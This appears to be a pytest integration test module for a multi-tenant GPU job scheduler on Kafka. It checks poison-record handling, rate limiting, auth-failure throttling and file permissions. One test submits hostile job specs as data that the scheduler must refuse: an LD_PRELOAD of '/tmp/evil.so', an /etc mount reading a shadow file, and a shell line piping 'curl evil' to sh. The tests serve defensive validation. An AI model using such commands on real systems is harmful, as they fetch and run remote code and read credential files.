"""A tenant can only hurt its own requests (issue #31), on the real broker and worker: records that stopped the pool
for everyone, and a burst that buried everyone else's requests. One stack serves the module: a worker, a simulated
fleet of two 4-card nodes, alice (tenant acme) and bob (tenant globex)."""
from __future__ import annotations

import asyncio
import base64
import json
import urllib.error
import urllib.request

import orjson
from aiokafka import AIOKafkaProducer
import pytest

from agents.stack import Stack
from schemas.envelope import decode
from schemas.events import QuotaSet
from tests.live import live_pool, produce, read_topic, wait_for

pytestmark = pytest.mark.broker


@pytest.fixture(scope="module")
def pool(tmp_path_factory, broker_mode, libs_home):
    with live_pool(tmp_path_factory, broker_mode, libs_home, "isolation", [
            ("alice", "tenant", "acme"), ("bob", "tenant", "globex")], quota_for=("acme", "globex")) as s:
        yield s


def _job(job_id, compute=1000, duration=600) -> bytes:
    return orjson.dumps({"kind": "job.requested", "job_id": job_id, "compute_milli": compute,
                         "gpu_memory_mib": 1024, "duration_s": duration})


def _answers(pool: Stack) -> list:
    return [e for e in (decode(r.value) for r in read_topic(pool, "gpupool.decisions"))
            if e.kind in ("job.rejected", "request.rejected")]


def _placed(pool: Stack, job: str) -> bool:
    """Whether the scheduler placed `job`: its cmd.place on the log (what the node acts on; the jobs list in
    ClickHouse follows it by the sink's lag)."""
    return any((e := decode(r.value)).kind == "cmd.place" and e.payload.job_id == job
               for r in read_topic(pool, "gpupool.commands"))


def test_records_that_stopped_the_pool_are_refused_and_everyone_goes_on(pool):
    """A job id of 201 characters crash-looped the worker (its refusal broke the contracts); ids with control or bidi
    characters, a boolean for a number and a record that is not JSON each get an answer, and the next request of
    anyone is placed by the same worker process."""
    worker = pool.procs["worker"]
    produce(pool, "gpupool.in.alice", [_job("x" * 201), _job("a\u202eb"), _job("nul\x00l"), _job("tab\tid"),
                                       _job("bool", compute=True), b"not json {", _job("after-poison")],
            user="alice")
    produce(pool, "gpupool.in.bob", [_job("bob-1")], user="bob")
    wait_for(lambda: _placed(pool, "acme/after-poison") and _placed(pool, "globex/bob-1"), 90,
             "the requests after the poison placed", pool)
    assert worker.poll() is None, pool.log("worker")[-3000:]  # the same process: it never stopped
    answers = _answers(pool)
    long = [a.payload for a in answers if a.kind == "request.rejected" and a.payload.subject.startswith("xxxx")]
    assert long and "at most 160" in long[0].message and long[0].principal == "alice"
    bidi = [a.payload for a in answers if a.kind == "request.rejected" and a.payload.subject == "a\\u202eb"]
    assert bidi and "U+202E is not allowed in an id" in bidi[0].message  # quoted escaped: it cannot turn a line
    assert any(a.kind == "request.rejected" and a.payload.subject == "nul\\x00l" for a in answers)
    assert any(a.kind == "request.rejected" and a.payload.subject == "tab\\tid" for a in answers)
    boolean = [a.payload for a in answers if a.kind == "job.rejected" and a.payload.job_id == "acme/bool"]
    assert boolean and boolean[0].code == "invalid" and "compute_milli" in boolean[0].reasons[0].message
    assert pool.stats()["dead_letters"].get("malformed_json", 0) >= 1


def test_a_program_the_pool_would_not_run_is_refused_at_the_door_with_a_reason(pool):
    """Issue #32: a request that sets a variable the pool sets itself, mounts a host path or a volume off the
    operator's list, or gives a shell line as its program is answered with why, and never reaches a node."""
    def program(job_id, **kw) -> bytes:
        return orjson.dumps({"kind": "job.requested", "job_id": job_id, "compute_milli": 100,
                             "gpu_memory_mib": 1024, **kw})

    produce(pool, "gpupool.in.bob", [
        program("env-preload", command=["python", "t.py"], env={"LD_PRELOAD": "/tmp/evil.so"}),
        program("env-devices", command=["python", "t.py"], env={"CUDA_VISIBLE_DEVICES": "0,1,2,3"}),
        program("host-path", command=["cat", "/x/shadow"], volumes=[{"volume": "/etc", "path": "/x"}]),
        program("off-list", command=["ls", "/x"], volumes=[{"volume": "home", "path": "/x"}]),
        program("shell-line", command=["python t.py; curl evil | sh"]),
        program("fine", command=["true"])], user="bob")
    wait_for(lambda: _placed(pool, "globex/fine"), 90, "the valid program placed", pool)
    why = {a.payload.job_id: (a.payload.code, a.payload.reasons[0].message) for a in _answers(pool)
           if a.kind == "job.rejected" and a.payload.job_id.startswith("globex/")}
    assert why["globex/env-preload"][0] == "invalid" and "LD_PRELOAD is set by the pool itself" in \
        why["globex/env-preload"][1]
    assert "CUDA_VISIBLE_DEVICES is set by the pool itself" in why["globex/env-devices"][1]
    assert why["globex/host-path"][0] == "invalid" and "volumes.0.volume" in why["globex/host-path"][1]
    assert why["globex/off-list"][0] == "unknown_volume"
    assert why["globex/shell-line"][0] == "invalid" and "never through a shell" in why["globex/shell-line"][1]
    refused = {"globex/env-preload", "globex/env-devices", "globex/host-path", "globex/off-list", "globex/shell-line"}
    assert not any(_placed(pool, j) for j in refused)
    assert not {e.payload.job_id for e in (decode(r.value) for r in read_topic(pool, "gpupool.job-requests"))
                if e.kind == "job.requested"} & refused


def _burst(pool: Stack, user: str, values: list[bytes]) -> None:
    """All at once: one producer, batched, every send handed over before any acknowledgement is awaited."""
    async def go():
        producer = AIOKafkaProducer(**pool.conn(user).options(), linger_ms=20, max_batch_size=1 << 20)
        await producer.start()
        try:
            futures = [await producer.send(f"gpupool.in.{user}", value=v) for v in values]
            await producer.flush()
            for f in futures:
                await f
        finally:
            await producer.stop()

    asyncio.run(go())


def test_one_tenants_burst_is_refused_at_its_door_and_another_tenants_job_is_placed(pool):
    """1,000 requests from alice at once: the gateway admits what her rate window allows and refuses the rest
    (`rate_limited`, which she reads); bob's one request, sent after her burst, is placed; no node is declared dead
    and no job interrupted. The figures for 5,000 are bench/burst.py's."""
    # acme may hold two cards and borrow none: its burst waits on its own quota, the rest of the fleet is bob's
    pool.client().send([QuotaSet(tenant="acme", gpu_milli=2000, overcommit_pct=100)])
    wait_for(lambda: any(dict(zip(cols, r)).get("quota_milli") == 2000 for cols, rows in
                         [pool.client().rows("/api/quota", {"tenant": "acme"})] for r in rows), 60, "acme's quota",
             pool)
    _burst(pool, "alice", [_job(f"burst-{i}", duration=3600) for i in range(1000)])
    produce(pool, "gpupool.in.bob", [_job("after-burst", compute=500)], user="bob")
    wait_for(lambda: _placed(pool, "globex/after-burst"), 120, "bob's job placed after alice's burst", pool)
    # which of alice's records the window refuses, worked out from her inbox alone (offsets and append times)
    firsts: dict[int, int] = {}
    expected = set()
    for r in read_topic(pool, "gpupool.in.alice"):
        window = r.timestamp // 10_000
        firsts.setdefault(window, r.offset)
        if r.offset - firsts[window] >= 200:
            expected.add("acme/" + orjson.loads(r.value)["job_id"])
    assert len(expected) >= 500  # the burst went past the window's count (most of it in one window)
    answers = _answers(pool)
    limited = [a.payload for a in answers if a.kind == "job.rejected" and a.payload.code == "rate_limited"]
    assert {p.job_id for p in limited} == expected
    assert "more than 200 requests in 10 s" in limited[0].reasons[0].message
    admitted = {e.payload.job_id for e in (decode(r.value) for r in read_topic(pool, "gpupool.job-requests"))
                if e.kind == "job.requested" and e.payload.job_id.startswith("acme/burst-")}
    assert len(admitted) + len(expected) == 1000 and not admitted & expected
    facts = [decode(r.value) for r in read_topic(pool, "gpupool.decisions")]
    assert not [e for e in facts if e.kind == "job.interrupted"]
    nodes = [decode(r.value) for r in read_topic(pool, "gpupool.node-control")]
    assert not [e for e in nodes if e.kind == "node.liveness" and not e.payload.alive]


def _http(pool: Stack, path: str, auth: str) -> tuple[int, dict, dict]:
    req = urllib.request.Request(f"http://127.0.0.1:{pool.web_port}{path}", headers={"Authorization": auth})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, json.loads(resp.read()), dict(resp.headers)
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read()), dict(exc.headers)


def _basic(name: str, token: str) -> str:
    return "Basic " + base64.b64encode(f"{name}:{token}".encode()).decode()


def test_guessing_a_token_is_throttled_logged_and_counted(pool):
    """Unlimited guessing answered 401 as fast as it could (38 tries/s), said nothing and counted nothing: past ten
    failures a minute a client (its address and the name it claims) is answered 429 with Retry-After, each failure
    is a log line, and the metric counts them. Another name is not held up by the guessing."""
    codes = [_http(pool, "/api/whoami", _basic("bob", f"guess-{i}"))[0] for i in range(12)]
    assert codes[:10] == [401] * 10 and codes[10:] == [429, 429], codes
    status, doc, headers = _http(pool, "/api/whoami", _basic("bob", pool.client("bob").creds.token))
    assert status == 429 and int(headers["Retry-After"]) >= 1 and "too many failed authentications" in doc["error"]
    alice = pool.client("alice").creds.token
    assert _http(pool, "/api/whoami", _basic("alice", alice))[:2] == (200, {"name": "alice", "role": "tenant",
                                                                           "tenant": "acme"})
    assert pool.log("worker").count("authentication failed from 127.0.0.1 as 'bob'") >= 10
    metrics = urllib.request.urlopen(urllib.request.Request(
        f"http://127.0.0.1:{pool.web_port}/metrics",
        headers={"Authorization": f"Bearer {pool.client().creds.token}"}), timeout=30).read().decode()
    assert 'gpupool_auth_failures_total{outcome="invalid"} 10.0' in metrics
    assert 'gpupool_auth_failures_total{outcome="throttled"} 3.0' in metrics


def test_the_logs_and_the_bill_on_disk_are_the_service_users_only(pool):
    """Kafka's segments hold every inbox, the embedded ClickHouse every bill: they were 0644 under 0755."""
    for top in (pool.home / "kafka-data", pool.home / "clickhouse"):
        assert top.is_dir() and top.stat().st_mode & 0o077 == 0, top
        files = [p for p in top.rglob("*") if p.is_file()]
        assert files, top
        loose = [str(p) for p in files if p.stat().st_mode & 0o077]
        assert not loose, loose[:5]
